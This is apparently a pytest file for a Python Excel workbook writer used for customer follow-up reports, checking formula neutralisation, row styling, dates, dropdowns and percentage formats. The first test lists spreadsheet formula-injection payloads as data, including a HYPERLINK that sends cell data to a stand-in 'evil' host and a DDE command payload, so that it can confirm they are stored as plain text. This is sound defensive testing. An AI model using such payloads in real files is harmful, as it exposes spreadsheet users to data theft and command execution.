"""The workbook writer: same look, linear in rows, text never a formula."""

from __future__ import annotations

import datetime
import zipfile

import openpyxl
import pandas as pd

from reporting.export.workbook import write_workbook_file

STATUSES = ["待跟进", "跟进中", "已完成", "已升级"]


def written(tmp_path, sheets, overdue=None):
    return write_workbook_file(sheets, tmp_path / "w.xlsx", overdue, {"当前状态": STATUSES})


def test_text_from_data_is_never_a_formula(tmp_path):
    payloads = ['=HYPERLINK("http://evil/?d="&A2,"查看进度")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@A1", "-1+2"]
    table = pd.DataFrame({"跟进结果简述": payloads, "跟进事项": ["\x08退格", "a\x0bb", "\x1b[31m红", "\x00", "ok"]})
    path = written(tmp_path, {"客户跟进计划表": table})
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(path)["客户跟进计划表"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == payloads
    assert [r[1] for r in rows] == ["退格", "ab", "红", None, "ok"]  # a console colour sequence goes whole
    assert all(cell.data_type == "s" for cell in sheet["A"][1:])
    assert sheet["A2"].quotePrefix  # Excel keeps it text when staff edit the cell


def test_thousands_of_rows_keep_values_dates_dropdown_and_overdue_fills(tmp_path):
    rows = 3000
    due = pd.Timestamp("2026-11-20 09:00")
    table = pd.DataFrame(
        {
            "跟进编号": [f"FU{i:05d}" for i in range(rows)],
            "计划跟进时间": [due + pd.Timedelta(hours=i) for i in range(rows)],
            "当前状态": ["待跟进" if i % 3 else "已完成" for i in range(rows)],
            "得分": [float(i % 5 + 1) if i % 7 else None for i in range(rows)],
        }
    )
    overdue = [i % 3 == 1 for i in range(rows)]
    sheet = openpyxl.load_workbook(written(tmp_path, {"客户跟进计划表": table}, {"客户跟进计划表": overdue}))["客户跟进计划表"]
    assert sheet.max_row == rows + 1 and sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:D{rows + 1}"
    assert str(sheet.data_validations.dataValidation[0].sqref) == f"C2:C{rows + 1}"
    assert sheet["B2"].value == datetime.datetime(2026, 11, 20, 9, 0) and sheet["B2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet[f"B{rows + 1}"].value == datetime.datetime(2026, 11, 20, 9, 0) + datetime.timedelta(hours=rows - 1)
    assert [sheet.cell(row=i + 2, column=4).value for i in range(8)] == [None, 2, 3, 4, 5, 1, 2, None]
    filled = [sheet.cell(row=i + 2, column=1).fill.fgColor.rgb == "FFF8D7DA" for i in range(rows)]
    assert filled == overdue
    assert sheet.cell(row=3, column=4).fill.fgColor.rgb == "FFF8D7DA"  # the whole row
    assert sheet["A1"].font.bold and abs(sheet.column_dimensions["A"].width - 10) < 1


def test_fractions_show_as_percentages_where_asked(tmp_path):
    table = pd.DataFrame({"服务类型": ["售后维修"], "实际比例": [0.1935], "服务客户数": [31]})
    path = write_workbook_file({"分层抽样": table}, tmp_path / "p.xlsx", percent=frozenset({"实际比例"}))
    sheet = openpyxl.load_workbook(path)["分层抽样"]
    assert sheet["B2"].value == 0.1935 and sheet["B2"].number_format == "0.0%"  # the number kept, shown as 19.4%
    assert sheet["C2"].number_format == "General"
